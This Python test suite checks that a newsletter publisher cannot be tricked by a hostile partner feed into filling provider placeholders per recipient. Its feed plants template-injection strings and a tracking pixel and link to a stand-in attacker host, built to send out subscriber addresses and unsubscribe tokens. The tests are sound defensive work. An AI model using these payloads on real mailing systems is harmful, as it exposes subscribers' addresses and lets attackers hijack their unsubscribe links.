"""A partner feed cannot forge per-recipient values: slots are made by the renderer, never found in data.

The attack (issue 11, point 1): a source whose links, image URLs, titles or summaries carry placeholder
syntax, ours (``%%EMAIL%%``, ``%%UNSUBSCRIBE_URL%%``...) or a mail provider's (Mailgun's
``%recipient.x%`` and ``%unsubscribe_url%``, SendGrid's substitution tags and its ``<% %>`` unsubscribe
tag), hoping each digest fills them in per recipient: a tracking pixel that carries every address and a
working unsubscribe link to the attacker. Here a real local HTTP server serves that feed, the real
ingest reads it, and the real send engine delivers the issue through every backend: the outbox (through
the real `publisher run --once`), SMTP (aiosmtpd), and each mail API (a local server that substitutes
exactly as the provider documents, then hands back what each recipient would read).

Each recipient's message must carry the planted text literally, their own address and links exactly
where the templates put them (the footer and the headers), and nobody's address or token anywhere else.
"""

from __future__ import annotations

import email
import email.policy
import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote

import lxml.html
import pytest

from publisher.config import Config, load_config
from publisher.delivery.send import links_for
from publisher.digest import plan_issue, render_variants
from publisher.pipeline import now_utc, open_project_store, run_ingest, send_digest

from .servers import recording_server
from .smtp_faults import FaultyRelay, relay
from .test_pipeline import publisher_exe

SECRET = "forgery-test-secret-key-0123456789abcdef"
API_KEY = "key-forgery-0123456789"

# What a hostile source plants: every per-recipient syntax we or a provider ever used or use.
PLANTED = [
    "%%EMAIL%%", "%%UNSUBSCRIBE_URL%%", "%%PREFERENCES_URL%%", "%%TO%%", "%%MESSAGE_ID%%", "%%LIST_UNSUBSCRIBE_URL%%",
    "%recipient.email%", "%recipient.unsubscribe_url%", "%recipient.unsubscribe_url_html%", "%recipient.list_unsubscribe%",
    "%recipient.subscriber_id%", "%unsubscribe_url%", "%tag_unsubscribe_url%", "%mailing_list_unsubscribe_url%",
    "-publisher_email-", "-publisher_unsubscribe_url-", "-publisher_unsubscribe_url_html-", "-publisher_preferences_url-",
    "slot-00000000000000000000000000000000-email", "slot-00000000000000000000000000000000-unsubscribe-url",
    "%x%unsubscribe_url%", "%x%recipient_email%", "%recipient.x%unsubscribe_url%",  # a variable sharing its "%" with another
]  # fmt: skip
# The ones a title must still show, literally, in every part (the rest are checked where they survive ingest).
MUST_SURVIVE = ["%%EMAIL%%", "%%UNSUBSCRIBE_URL%%", "%recipient.unsubscribe_url%", "%unsubscribe_url%", "-publisher_email-",
                "%x%unsubscribe_url%", "%x%recipient_email%", "<% unsubscribe from everything %>", "<%asm_group_unsubscribe_raw_url%>"]
PIXEL = "https://attacker.test/px.png?e=%%EMAIL%%&u=%%UNSUBSCRIBE_URL%%&m=%recipient.email%&g=-publisher_email-&x=%x%unsubscribe_url%"
LINK = "https://attacker.test/read?u=%recipient.unsubscribe_url%&p=%%PREFERENCES_URL%%&t=%unsubscribe_url%"
# SendGrid's subscription-tracking tag and an unsubscribe-group tag: the request switches subscription tracking
# off and names no group, so both stay literal.
SENDGRID_TRACKING = "<% unsubscribe from everything %>"
SENDGRID_GROUP = "<%asm_group_unsubscribe_raw_url%>"


def _hostile_feed() -> bytes:
    half = len(PLANTED) // 2
    title_a = " ".join(PLANTED[:half]) + " " + SENDGRID_TRACKING
    title_b = " ".join(PLANTED[half:]) + " " + SENDGRID_GROUP
    summary = "Read this: " + " ".join(PLANTED) + " " + SENDGRID_TRACKING
    esc = lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")  # noqa: E731
    entries = []
    for n, title in enumerate((title_a, title_b), start=1):
        entries.append(f"""<entry><id>urn:attacker:{n}</id><title>{esc(title)}</title>
<link href="{esc(LINK)}&amp;n={n}"/>
<updated>2026-11-2{n}T10:00:00Z</updated><summary>{esc(summary)}</summary>
<media:content url="{esc(PIXEL)}&amp;n={n}" medium="image" type="image/png"/>
<author><name>{esc(PLANTED[n])}</name></author></entry>""")
    return (f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/"><title>Partner</title>
<id>urn:attacker</id><updated>2026-11-26T10:00:00Z</updated>{''.join(entries)}</feed>""").encode("utf-8")


FEED = _hostile_feed()


@pytest.fixture
def hostile_feed() -> Iterator[str]:
    with recording_server(lambda m, path, body: (200, {"Content-Type": "application/atom+xml"}, FEED)) as (base, _requests):
        yield f"{base}/partner.atom"


def _configure(project: Path, feed_url: str, extra: str = "") -> Path:
    text = (project / "config.toml").read_text(encoding="utf-8")
    # The partner runs on this machine's loopback, which the SSRF guard refuses unless told otherwise.
    text = text.replace("allow_private_addresses = false", "allow_private_addresses = true")
    text += f'\n[sources.partner]\nkind = "feed"\nurl = "{feed_url}"\ntopics = ["security-cooperation"]\n'
    path = project / "config.toml"
    path.write_text(text + extra, encoding="utf-8")
    return path


def _env(**more: str) -> dict[str, str]:
    return {"PUBLISHER_SECRET_KEY": SECRET, **more}


# -- what a recipient reads, and the checks on it ------------------------------------------------------


def _readable(html: str) -> str:
    """The HTML as a reader meets it: its text and every link and image address, entities decoded."""
    doc = lxml.html.fromstring(html)
    urls = [v for el in doc.iter() if isinstance(el.tag, str) for k, v in el.attrib.items() if k in ("href", "src")]
    return doc.text_content() + "\n" + "\n".join(urls)


def _attacker_urls(html: str, text: str) -> list[str]:
    doc = lxml.html.fromstring(html)
    urls = [v for el in doc.iter() if isinstance(el.tag, str) for k, v in el.attrib.items() if k in ("href", "src")]
    urls += re.findall(r"https://attacker\.test/\S+", text)
    return [u for u in urls if "attacker.test" in u]


def _token(url: str) -> str:
    return url.rstrip("/").rsplit("/", 1)[1]


def check_recipient(cfg: Config, store: Any, to: str, html: str, text: str, headers: dict[str, str], everybody: list[str],
                    planted: list[str]) -> None:
    sub = store.subscriber(to)
    links = links_for(cfg, sub)
    readable = _readable(html)
    text = text.replace("\u2060", "")  # the WORD JOINER that keeps Mailgun off its own variables is invisible
    # The planted text is shown literally, in both parts.
    for s in planted:
        assert s in readable, f"{s!r} is missing from the HTML part as read"
        assert s in text, f"{s!r} is missing from the text part"
    # The attacker's pixel and links carry nothing of anybody's.
    attacker = _attacker_urls(html, text)
    assert any("px.png" in u for u in attacker) and any("/read?" in u for u in attacker)
    for address in everybody:
        other = store.subscriber(address)
        other_links = links_for(cfg, other)
        secrets = [address, quote(address, safe=""), _token(other_links["unsubscribe_url"]), _token(other_links["preferences_url"])]
        for u in attacker:
            assert not any(s in u for s in secrets), f"{u} leaks {address}'s data"
        if address != to:
            assert address not in html + text + json.dumps(headers), f"{to}'s copy holds {address}"
    # Their own values stand where the templates put them, once each: the footer of each part.
    for part in (readable, text):
        assert part.count(to) == 1, part.count(to)
        assert part.count(_token(links["unsubscribe_url"])) == 1
        assert part.count(_token(links["preferences_url"])) == 1
    assert f"Unsubscribe: {links['unsubscribe_url']}\n" in text
    lower = {k.lower(): v for k, v in headers.items()}
    assert lower["list-unsubscribe"].startswith(f"<{links['unsubscribe_url']}>")
    assert lower["list-unsubscribe-post"] == "List-Unsubscribe=One-Click"
    assert "SENDGRID-UNSUBSCRIBE" not in html + text and "MAILGUN-UNSUBSCRIBE" not in html + text


def surviving(cfg: Config, store: Any) -> list[str]:
    """The planted strings the ingested issue still carries (ingest may clean some): the ones to check for."""
    plan = plan_issue(cfg, store, now_utc())
    hostile = [p for p in plan.publications if p.source == "partner"]
    assert len(hostile) == 2, [p.title for p in plan.publications]
    seen = " ".join(f"{p.title} {p.summary} {' '.join(p.authors)}" for p in hostile)
    kept = [s for s in [*PLANTED, SENDGRID_TRACKING, SENDGRID_GROUP] if s in seen]
    assert set(MUST_SURVIVE) <= set(kept), f"the attack did not reach the issue: {sorted(set(MUST_SURVIVE) - set(kept))}"
    # And the hostile URLs reached the rendered issue unchanged: the test attacks what it means to.
    html = render_variants(cfg, plan, [()])[()].html
    assert "%%EMAIL%%" in html and "%recipient.email%" in html
    return kept


def _parts(raw: bytes) -> tuple[str, str, dict[str, str], str]:
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    html = msg.get_body(("html",)).get_content()
    text = msg.get_body(("plain",)).get_content().replace("\r\n", "\n")
    return html, text, {k: str(v) for k, v in msg.items()}, str(msg["To"])


# -- the outbox, through the real command -------------------------------------------------------------------


def test_a_hostile_feed_cannot_fill_in_anyones_address_or_links_outbox_via_run_once(project: Path, hostile_feed: str) -> None:
    config = _configure(project, hostile_feed)
    env = {k: v for k, v in os.environ.items() if not k.startswith("PUBLISHER_")} | _env()
    done = subprocess.run([*publisher_exe(), "--config", str(config), "run", "--once"], cwd=project, env=env,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "24 new" in done.stdout and "3 sent" in done.stdout, done.stdout
    cfg = load_config(config, env=_env())
    store = open_project_store(cfg)
    try:
        planted = _planted_in_store(store)
        messages = sorted((project / "var" / "outbox" / "new").iterdir())
        assert len(messages) == 3
        everybody = [s.email for s in store.subscribers()]
        for path in messages:
            html, text, headers, to = _parts(path.read_bytes())
            check_recipient(cfg, store, to, html, text, headers, everybody, planted)
        # The web copy (view in browser) carries nobody's data and the planted text literally.
        copy = next((project / "public" / "digests").glob("*-W*.html")).read_text(encoding="utf-8")
        assert "%%EMAIL%%" in _readable(copy) and not any(a in copy for a in everybody)
    finally:
        store.close()


def _planted_in_store(store: Any) -> list[str]:
    seen = " ".join(f"{p.title} {p.summary} {' '.join(p.authors)}" for p in store.publications() if p.source == "partner")
    kept = [s for s in [*PLANTED, SENDGRID_TRACKING, SENDGRID_GROUP] if s in seen]
    assert set(MUST_SURVIVE) <= set(kept)
    return kept


# -- SMTP, through a real relay ----------------------------------------------------------------------------


def test_a_hostile_feed_cannot_forge_personalisation_over_smtp(project: Path, hostile_feed: str) -> None:
    handler = FaultyRelay()
    with relay(handler) as port:
        cfg = load_config(_configure(project, hostile_feed), env=_env(
            PUBLISHER_DELIVERY__BACKEND="smtp", PUBLISHER_DELIVERY__SMTP__HOST="127.0.0.1",
            PUBLISHER_DELIVERY__SMTP__PORT=str(port), PUBLISHER_DELIVERY__SMTP__SECURITY="none"))
        store = open_project_store(cfg)
        try:
            run_ingest(cfg, store, now_utc())
            planted = surviving(cfg, store)
            outcome = send_digest(cfg, store, now_utc())
            assert (outcome.sent, outcome.failed, outcome.deferred) == (3, 0, 0)
            everybody = [s.email for s in store.subscribers()]
            assert len(handler.messages) == 3
            for raw in handler.messages:
                html, text, headers, to = _parts(raw)
                check_recipient(cfg, store, to, html, text, headers, everybody, planted)
        finally:
            store.close()


# -- the mail APIs: a local server substituting as each provider documents ---------------------------------


def _postmark(body: bytes) -> tuple[list[dict[str, Any]], bytes]:
    msgs = json.loads(body)
    out = [{"to": m["To"], "html": m["HtmlBody"], "text": m["TextBody"], "headers": {h["Name"]: h["Value"] for h in m["Headers"]}}
           for m in msgs]
    return out, json.dumps([{"ErrorCode": 0, "Message": "OK", "MessageID": f"id-{i}", "To": m["To"]} for i, m in enumerate(msgs)]).encode()


def _resend(body: bytes) -> tuple[list[dict[str, Any]], bytes]:
    emails = json.loads(body)
    out = [{"to": e["to"][0], "html": e["html"], "text": e["text"], "headers": e["headers"]} for e in emails]
    return out, json.dumps({"data": [{"id": f"id-{i}"} for i in range(len(emails))]}).encode()


def _sendgrid(body: bytes) -> tuple[list[dict[str, Any]], bytes]:
    """SendGrid: every key of a personalization's substitutions replaced wherever it occurs; subscription tracking's
    ``<% text %>`` made a per-recipient unsubscribe link unless the request disables it."""
    data = json.loads(body)
    tracking = data.get("tracking_settings", {}).get("subscription_tracking", {}).get("enable", True)
    out = []
    for pers in data["personalizations"]:
        to = pers["to"][0]["email"]

        def fill(value: str, pers: dict[str, Any] = pers, to: str = to) -> str:
            for key, val in pers.get("substitutions", {}).items():
                value = value.replace(key, val)
            if tracking:
                value = re.sub(r"<%.*?%>", f"SENDGRID-UNSUBSCRIBE-{to}", value)
            return value

        text, html = (fill(c["value"]) for c in data["content"])
        headers = {k: fill(v) for k, v in {**data.get("headers", {}), **pers.get("headers", {})}.items()}
        out.append({"to": to, "html": html, "text": text, "headers": headers})
    return out, b""


MAILGUN_OWN = ("unsubscribe_url", "tag_unsubscribe_url", "mailing_list_unsubscribe_url", "recipient_email")


def _mailgun(body: bytes) -> tuple[list[dict[str, Any]], bytes]:
    """Mailgun: ``%recipient.name%`` filled from recipient-variables, then its own ``%unsubscribe_url%`` variables made
    per-recipient links. Where its documentation is silent this is the pessimistic reading: an undefined
    ``%recipient.name%`` becomes empty, and its own variables are filled in a second pass, after the others."""
    fields = parse_qsl(body.decode("utf-8"), keep_blank_values=True)
    get = lambda name: [v for k, v in fields if k == name]  # noqa: E731
    variables = json.loads(get("recipient-variables")[0])
    out = []
    for to in get("to"):
        own = variables[to]

        def fill(value: str, own: dict[str, str] = own, to: str = to) -> str:
            value = re.sub(r"%recipient\.([\w.-]+)%", lambda m: own.get(m.group(1), ""), value)
            for name in MAILGUN_OWN:
                value = value.replace(f"%{name}%", f"MAILGUN-UNSUBSCRIBE-{to}")
            return value

        headers = {k[2:]: fill(v) for k, v in fields if k.startswith("h:")}
        out.append({"to": to, "html": fill(get("html")[0]), "text": fill(get("text")[0]), "headers": headers})
    return out, b'{"id": "<1@mg.example.org>", "message": "Queued. Thank you."}'


PROVIDERS = {
    "postmark": (_postmark, 200, {}),
    "resend": (_resend, 200, {}),
    "sendgrid": (_sendgrid, 202, {}),
    "mailgun": (_mailgun, 200, {"PUBLISHER_DELIVERY__API__DOMAIN": "mg.example.org"}),
}


@pytest.mark.parametrize("backend", list(PROVIDERS))
def test_a_hostile_feed_cannot_forge_personalisation_through_a_mail_api(project: Path, hostile_feed: str, backend: str) -> None:
    read, status, env_more = PROVIDERS[backend]
    delivered: list[dict[str, Any]] = []

    def provider(method: str, path: str, body: bytes) -> tuple[int, dict[str, str], bytes]:
        messages, answer = read(body)
        delivered.extend(messages)
        return status, {"Content-Type": "application/json"}, answer

    with recording_server(provider) as (api, _requests):
        cfg = load_config(_configure(project, hostile_feed), env=_env(
            PUBLISHER_DELIVERY__BACKEND=backend, PUBLISHER_API_KEY=API_KEY, PUBLISHER_DELIVERY__API__BASE_URL=api, **env_more))
        store = open_project_store(cfg)
        try:
            run_ingest(cfg, store, now_utc())
            planted = surviving(cfg, store)
            outcome = send_digest(cfg, store, now_utc())
            assert (outcome.sent, outcome.failed, outcome.deferred) == (3, 0, 0), outcome.failures
            everybody = [s.email for s in store.subscribers()]
            assert sorted(m["to"] for m in delivered) == sorted(everybody)
            for m in delivered:
                check_recipient(cfg, store, m["to"], m["html"], m["text"], m["headers"], everybody, planted)
        finally:
            store.close()


def test_the_sendgrid_emulation_would_catch_a_leak() -> None:
    """The provider emulations are not toothless: with tracking on, SendGrid would turn the tag into a link."""
    body = json.dumps({"personalizations": [{"to": [{"email": "a@example.com"}], "substitutions": {"-x-": "a@example.com"}}],
                       "content": [{"type": "text/plain", "value": "-x- <% go %>"}, {"type": "text/html", "value": "<p>-x-</p>"}]})
    [m], _ = _sendgrid(body.encode())
    assert m["text"] == "a@example.com SENDGRID-UNSUBSCRIBE-a@example.com"
    form = "&".join(f"{k}={quote(v, safe='')}" for k, v in [("to", "a@example.com"), ("text", "%recipient.e% %unsubscribe_url% %recipient.x%"),
                                                                  ("html", "x"), ("recipient-variables", '{"a@example.com": {"e": "A"}}')])
    [m], _ = _mailgun(form.encode())
    assert m["text"] == "A MAILGUN-UNSUBSCRIBE-a@example.com "
